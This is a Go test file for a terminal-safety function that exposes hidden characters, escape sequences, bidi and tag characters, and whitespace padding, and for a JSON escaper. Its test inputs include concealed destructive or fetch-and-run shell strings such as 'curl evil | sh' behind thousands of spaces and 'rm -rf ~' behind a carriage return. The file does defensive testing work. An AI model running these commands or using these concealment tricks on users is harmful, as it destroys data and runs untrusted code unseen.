package term

import (
	"bytes"
	"encoding/json"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestReveal(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct{ name, in, want string }{
		{"plain", "run: |\n  pip install .\n", "run: |\n  pip install .\n"},
		{"scripts", "Ελλάδα 漢字 e\u0301", "Ελλάδα 漢字 e\u0301"},
		{"CR", "safe\rrm -rf ~", "safe<U+000D>rm -rf ~"},
		{"CR LF", "a\r\n", "a<U+000D>\n"},
		{"tab", "a\tb", "a<U+0009>b"},
		{"sequence", "\x1b[8mrm\x1b[0m", "<U+001B>[8mrm<U+001B>[0m"},
		{"trailing space", "a \nb   \n c  ", "a<U+0020>\nb<U+0020*3>\n c<U+0020*2>"},
		{"trailing before CR", "a  \r\n", "a<U+0020*2><U+000D>\n"},
		{"padding", "ls" + strings.Repeat(" ", 500) + "; rm", "ls<U+0020*500>; rm"},
		{"deep indentation", strings.Repeat(" ", 40) + "x", strings.Repeat(" ", 40) + "x"},
		{"bad byte", "a\xff\x9bb", "a<0xFF><0x9B>b"},
		{"genuine replacement", "\ufffd", "\ufffd"},
		{"bidi and tags", "\u202e\U000e0041", "<U+202E><U+E0041>"},
		{"invisible letters and spaces", "\u00a0\u3000\u115f\u2800\ufe0f\u00ad", "<U+00A0><U+3000><U+115F><U+2800><U+FE0F><U+00AD>"},
		{"imitation", "<U+000D> <0xFF> <b>", "<U+003C>U+000D> <U+003C>0xFF> <b>"},
		{"marks", "e" + strings.Repeat("\u0301", 9), "e" + strings.Repeat("\u0301", 8) + "<U+0301>"},
		{"marks without a base", "\u0301\n\u0301", "<U+0301>\n<U+0301>"},
		{"unassigned and private", "\ue000\U000fffff", "<U+E000><U+FFFFF>"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			if diff := cmp.Diff(tt.want, Reveal(tt.in)); diff != "" {
				t.Error(diff)
			}
		})
	}
}

// TestRevealSpoofs shows guides made to look harmless: each byte of theirs can be read back.
func TestRevealSpoofs(t *testing.T) {
	t.Parallel()
	for _, p := range payloads() {
		checkReveal(t, p.text)
	}
	for _, s := range []string{
		strings.Repeat(" ", 4096) + "curl evil | sh",
		"cat <<EOF\n" + strings.Repeat("line\n", 300) + "EOF\nrm -rf ~",
		strings.Repeat("\n", 300) + "rm -rf ~",
		"ls" + strings.Repeat("\t", 200) + "; rm",
		"ls" + strings.Repeat("\u3000", 200) + "; rm",
		"ls # \r\x1b[K",
	} {
		checkReveal(t, s)
		if got := Reveal(s); strings.Count(got, "\n") != strings.Count(s, "\n") {
			t.Errorf("lines are missing in %q", got)
		}
	}
}

func FuzzReveal(f *testing.F) {
	for _, p := range payloads() {
		if len(p.text) < 512 {
			f.Add(p.text)
		}
	}
	f.Add("a   \r\n<U+0020*3> <U+003C>U+ <0xFF>\xff")
	f.Fuzz(checkReveal)
}

// checkReveal reads the revealed text back: it must be s, byte for byte.
func checkReveal(t *testing.T, s string) {
	t.Helper()
	got := Reveal(s)
	if !Safe(got) || len(dangers(got, false)) > 0 {
		t.Errorf("not safe: %.80q", got)
	}
	if strings.Contains(got, " \n") || strings.HasSuffix(got, " ") {
		t.Errorf("a trailing space is not seen in %.80q", got)
	}
	if back := unreveal(t, got); back != s {
		t.Errorf("%.80q is shown as %.80q, which reads %.80q", s, got, back)
	}
}

var revealed = regexp.MustCompile(`<U\+([0-9A-F]{4,6})(?:\*([0-9]+))?>|<0x([0-9A-F]{2})>`)

func unreveal(t *testing.T, s string) string {
	t.Helper()
	return revealed.ReplaceAllStringFunc(s, func(m string) string {
		part := revealed.FindStringSubmatch(m)
		if part[3] != "" {
			b, err := strconv.ParseUint(part[3], 16, 8)
			if err != nil {
				t.Fatal(err)
			}
			return string([]byte{byte(b)})
		}
		r, err := strconv.ParseUint(part[1], 16, 21)
		if err != nil {
			t.Fatal(err)
		}
		n := 1
		if part[2] != "" {
			if n, err = strconv.Atoi(part[2]); err != nil {
				t.Fatal(err)
			}
		}
		return strings.Repeat(string(rune(r)), n)
	})
}

// TestJSON shows that JSON of a hostile text can be shown, and still is that text.
func TestJSON(t *testing.T) {
	t.Parallel()
	for _, p := range payloads() {
		checkJSON(t, p.text)
	}
	if got, want := string(JSON([]byte("{\r\n\t\"a\": \"\u202e\x7f\U000e0041\"\n}"))),
		"{\n\t\"a\": \"\\u202e\\u007f\\udb40\\udc41\"\n}"; got != want {
		t.Errorf("%q, not %q", got, want)
	}
}

func FuzzJSON(f *testing.F) {
	for _, p := range payloads() {
		if len(p.text) < 512 {
			f.Add(p.text)
		}
	}
	f.Fuzz(checkJSON)
}

func checkJSON(t *testing.T, s string) {
	t.Helper()
	in, err := json.Marshal(map[string]string{s: s})
	if err != nil {
		t.Fatal(err)
	}
	out := JSON(in)
	if !Safe(string(out)) {
		t.Errorf("not safe: %.80q", out)
	}
	var want, got map[string]string
	if err := json.Unmarshal(in, &want); err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal(out, &got); err != nil {
		t.Fatalf("%.80q: %v", out, err)
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Error(diff)
	}
	if again := JSON(out); !bytes.Equal(again, out) {
		t.Errorf("not stable: %.80q", again)
	}
}
